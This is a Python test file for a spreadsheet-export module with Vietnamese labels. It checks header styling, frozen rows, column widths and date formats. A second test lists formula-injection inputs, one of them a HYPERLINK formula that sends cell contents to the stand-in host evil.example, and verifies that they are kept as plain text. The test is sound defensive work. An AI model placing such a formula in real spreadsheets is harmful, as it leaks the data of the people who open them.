"""Spreadsheets: headers, frozen row, widths, dates as dates — read back with openpyxl."""

from __future__ import annotations

import io
from datetime import date, datetime

from openpyxl import load_workbook

from cai_cach.spreadsheet import Sheet, workbook_bytes


def test_workbook_bytes_reads_back() -> None:
    data = workbook_bytes(
        [
            Sheet(
                "Việc",
                ("Mã", "Nội dung rất dài của nhiệm vụ", "Hạn"),
                [("1.a", "x" * 200, date(2024, 3, 31))],
            ),
            Sheet("Một tên trang tính dài hơn ba mươi mốt ký tự", ("A",), []),
        ]
    )
    book = load_workbook(io.BytesIO(data))
    first, second = book.worksheets
    assert first.title == "Việc" and len(second.title) == 31
    assert [cell.value for cell in first[1]] == ["Mã", "Nội dung rất dài của nhiệm vụ", "Hạn"]
    assert first["A1"].font.bold and first.freeze_panes == "A2" and second.freeze_panes == "A2"
    assert first["C2"].value == datetime(2024, 3, 31) and first["C2"].number_format == "DD/MM/YYYY"
    assert first.column_dimensions["B"].width == 60  # capped
    assert first.column_dimensions["A"].width < first.column_dimensions["C"].width


def test_text_that_a_spreadsheet_reads_as_a_formula_stays_text() -> None:
    hostile = [
        '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ]
    content = workbook_bytes(
        [Sheet("Nhiệm vụ", ("=tiêu đề", "số"), [(text, 1) for text in [*hostile, "bình thường"]])]
    )
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows()]
    assert [cell.value for cell in cells] == ["=tiêu đề", *hostile, "bình thường"]
    for cell in cells[:-1]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert not cells[-1].quotePrefix
    assert sheet["B2"].value == 1 and sheet["B2"].data_type == "n"
